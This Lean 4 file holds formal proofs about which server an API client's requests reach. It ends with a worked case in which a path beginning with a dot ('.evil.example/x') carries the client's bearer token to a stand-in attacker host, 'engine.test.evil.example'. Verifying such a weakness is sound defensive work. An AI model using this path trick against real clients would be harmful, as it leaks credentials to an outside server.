import ApiClient.Proofs.Client.Received
import ApiClient.Proofs.Http.Place

/-!
# The server that a request goes to

The path of a request is put behind the base address as it is. A path that begins with a slash stays
on the server of the base address; any other one continues the authority, and may lead to another
server.
-/

namespace ApiClient

/-- Two addresses lead to the same server. -/
structure Url.SameServer (u v : Url) : Prop where
  /-- The scheme. -/
  scheme : u.scheme = v.scheme
  /-- The host. -/
  host : u.host = v.host
  /-- The port. -/
  port : u.port = v.port

section

variable [Platform]

theorem Url.parse_eq_ok {text : String} {u : Url} (h : parse text = .ok u) :
    ofParts (Parts.ofText text.toList) = .ok u := by
  obtain ⟨⟨⟩, -, h⟩ := bind_eq_ok.mp h
  exact h

theorem Request.make_eq (method text : String) (params : Option (List (String × Json)))
    (given : List HeaderRow) (content : Content) : make method text params given content =
      (match params with
        | none => (Url.parse text).mapError .url
        | some params => (Url.parseWithQuery text (Form.query params)).mapError .url) >>= fun url =>
      content.encode >>= fun encoded =>
      headersFor (Text.upper method) url given encoded.2 >>= fun headers =>
      .ok { method := Text.upper method, url, headers, body := encoded.1 } := by
  cases params with
  | none => rfl
  | some params => rfl

/-- Parameters do not change the scheme and the authority of an address. -/
theorem Request.url_of_make {method text : String} {params : Option (List (String × Json))}
    {given : List HeaderRow} {content : Content} {r : Request}
    (h : make method text params given content = .ok r) :
    ∃ p : Url.Parts, p.scheme = (Url.Parts.ofText text.toList).scheme ∧
      p.authority = (Url.Parts.ofText text.toList).authority ∧ Url.ofParts p = .ok r.url := by
  rw [make_eq] at h
  obtain ⟨url, hurl, h⟩ := bind_eq_ok.mp h
  obtain ⟨encoded, -, h⟩ := bind_eq_ok.mp h
  obtain ⟨headers, -, h⟩ := bind_eq_ok.mp h
  cases h
  cases params with
  | none =>
    exact ⟨Url.Parts.ofText text.toList, rfl, rfl, Url.parse_eq_ok (mapError_eq_ok.mp hurl)⟩
  | some params =>
    obtain ⟨⟨⟩, -, hurl⟩ := bind_eq_ok.mp (mapError_eq_ok.mp hurl)
    obtain ⟨⟨⟩, -, hurl⟩ := bind_eq_ok.mp hurl
    exact ⟨{ Url.Parts.ofText text.toList with query := Form.query params }, rfl, rfl, hurl⟩

end

namespace Client

section

variable [Platform]

variable {c : Client} {method path : String} {params : Option (List (String × Json))}
  {content : Content} {base : Url} {r : Request}

/-- A request has the scheme of the base address, and goes to the place that the authority of the
base address denotes when the path continues it. -/
theorem place_of_request (hbase : Url.parse c.config.baseUrl = .ok base)
    (hscheme : base.scheme ≠ "") (hhost : base.host ≠ "")
    (hrequest : c.request method path params content = .ok r) :
    let parts := Url.Parts.ofText c.config.baseUrl.toList
    r.url.scheme = base.scheme ∧
      Url.place parts.scheme parts.authority = .ok (base.host.toList, base.port) ∧
      Url.place parts.scheme (parts.authority ++ parts.continuedBy path.toList) =
        .ok (r.url.host.toList, r.url.port) := by
  intro parts
  obtain ⟨hbase', hplace⟩ := Url.place_of_ofParts (Url.parse_eq_ok hbase)
  obtain ⟨p, hpscheme, hpauthority, hp⟩ := Request.url_of_make hrequest
  obtain ⟨hrequest', hplace'⟩ := Url.place_of_ofParts hp
  have hsome : parts.scheme ≠ [] := by
    intro hnil
    rw [show (Url.Parts.ofText c.config.baseUrl.toList).scheme = [] from hnil] at hbase'
    exact hscheme hbase'
  have hauthority : parts.authority ≠ [] := by
    intro hnil
    rw [show (Url.Parts.ofText c.config.baseUrl.toList).authority = [] from hnil] at hplace
    have hempty := congrArg Prod.fst (Except.ok.inj hplace)
    exact hhost (String.toList_eq_nil_iff.mp hempty.symm)
  obtain ⟨hsame, hcontinued⟩ := Url.Parts.ofText_append hsome hauthority path.toList
  rw [String.toList_append] at hpscheme hpauthority
  rw [hpscheme, hsame] at hrequest' hplace'
  rw [hpauthority, hcontinued] at hplace'
  exact ⟨hrequest'.trans hbase'.symm, hplace, hplace'⟩

/-- A request to a path goes to the server of the base address if and only if the beginning of the
path, where it continues the authority, leaves the place that the authority denotes as it is. So it
does if the path is empty or begins with a slash, a question mark or a number sign, which continue
nothing. A plain authority may only be continued by the port of its scheme, or by user information
and another text for the same place. What is passed on for a request goes where the request goes. -/
theorem request_sameServer_iff (hbase : Url.parse c.config.baseUrl = .ok base)
    (hscheme : base.scheme ≠ "") (hhost : base.host ≠ "")
    (hrequest : c.request method path params content = .ok r) :
    let parts := Url.Parts.ofText c.config.baseUrl.toList
    let added := parts.continuedBy path.toList
    let place := Url.place parts.scheme
    r.url.scheme = base.scheme ∧
    (r.url.SameServer base ↔ place (parts.authority ++ added) = place parts.authority) ∧
    ((∀ mark, path.toList.head? = some mark → mark = '/' ∨ mark = '?' ∨ mark = '#') →
      r.url.SameServer base) ∧
    (Url.IsPlain parts.authority → (r.url.SameServer base ↔
      added = [] ∨
      (∃ port, added = ':' :: port ∧ '@' ∉ port ∧ Url.normalPort parts.scheme port = .ok none) ∨
      ∃ user other, added = user ++ '@' :: other ∧ '@' ∉ other ∧
        place other = place parts.authority)) ∧
    ∀ transport s q, (Exchange.after (c.perform transport r) s).sent = s.sent ++ [q] →
      q.url = r.url := by
  intro parts added place
  obtain ⟨hsame, hplace, hplace'⟩ := place_of_request hbase hscheme hhost hrequest
  have hiff : r.url.SameServer base ↔
      place (parts.authority ++ added) = .ok (base.host.toList, base.port) := by
    rw [show place (parts.authority ++ added) = .ok (r.url.host.toList, r.url.port) from hplace']
    constructor
    · intro h
      rw [h.host, h.port]
    · intro h
      obtain ⟨hhost', hport⟩ := Prod.mk.inj (Except.ok.inj h)
      exact ⟨hsame, String.toList_inj.mp hhost', hport⟩
  have hplace : place parts.authority = .ok (base.host.toList, base.port) := hplace
  rw [hplace]
  refine ⟨hsame, hiff, fun hmark => hiff.mpr ?_, fun hplain => ?_, fun transport s q hsent => ?_⟩
  · have hnothing : added = [] := Url.Parts.continuedBy_of_mark parts hmark
    rw [hnothing, List.append_nil]
    exact hplace
  · exact hiff.trans (Url.place_append_iff hplain hplace)
  · obtain ⟨t, hsign, rfl⟩ := signed_of_sent hsent
    exact (sentFor_of_sign hsign).url

end

section Plain

attribute [local instance] Platform.plain

/-- The token of a client is sent to another server if the path of a request begins with a dot. -/
theorem request_leaves_server_of_dot :
    let c : Client := {
      levels := [], now := 0
      config := {
        baseUrl := "https://engine.test", credential := some (.bearer "T"), transport := .network
        userAgent := "agent", logger := "app", reportsFailures := false, measures := false
        version := "" } }
    let base : Url := {
      scheme := "https", userinfo := "", host := "engine.test", port := none, path := ""
      query := none, fragment := none }
    let r : Request := {
      method := "GET", body := .held []
      headers := { rows := [Headers.row "Host" "engine.test.evil.example"] }
      url := { base with host := "engine.test.evil.example", path := "/x" } }
    let q : Request := { r with
      headers := {
        rows := r.headers.rows ++
          [Headers.row "Authorization" "Token T", Headers.row "User-Agent" "agent"] } }
    Url.parse c.config.baseUrl = .ok base ∧ base.scheme ≠ "" ∧ base.host ≠ "" ∧
      c.request "GET" ".evil.example/x" none .none = .ok r ∧ ¬ r.url.SameServer base ∧
      (Exchange.after (c.perform (fun _ _ => .ok {
        status := 200, headers := { rows := [] }, body := .held [] }) r) {}).sent = [q] ∧
      ¬ q.url.SameServer base := by
  intro c base r q
  have hbase : Url.parse c.config.baseUrl = .ok base := by
    unfold c base
    decide +kernel
  have hrequest : c.request "GET" ".evil.example/x" none .none = .ok r := by
    unfold c r base
    decide +kernel
  have hsent : (Exchange.after (c.perform (fun _ _ => .ok {
      status := 200, headers := { rows := [] }, body := .held [] }) r) {}).sent = [q] := by
    unfold c q r base
    decide +kernel
  obtain ⟨-, -, -, hplain, hurl⟩ :=
    request_sameServer_iff hbase (by decide) (by decide) hrequest
  have hauthority : Url.IsPlain (Url.Parts.ofText c.config.baseUrl.toList).authority := by
    unfold c
    exact ⟨by decide +kernel, by decide +kernel, by decide +kernel, by decide +kernel⟩
  have hadded : (Url.Parts.ofText c.config.baseUrl.toList).continuedBy ".evil.example/x".toList =
      ".evil.example".toList := by
    unfold c
    decide +kernel
  have hleaves : ¬ r.url.SameServer base := by
    rw [hplain hauthority, hadded]
    rintro (hnil | ⟨port, hport, -⟩ | ⟨user, other, huser, -⟩)
    · exact absurd hnil (by decide)
    · have hfirst : ".evil.example".toList.head? = some ':' := congrArg List.head? hport
      exact absurd hfirst (by decide)
    · have hat : '@' ∈ ".evil.example".toList := huser ▸ by simp
      exact absurd hat (by decide)
  refine ⟨hbase, by decide, by decide, hrequest, hleaves, hsent, ?_⟩
  rw [hurl _ {} q hsent]
  exact hleaves

end Plain

end Client

end ApiClient
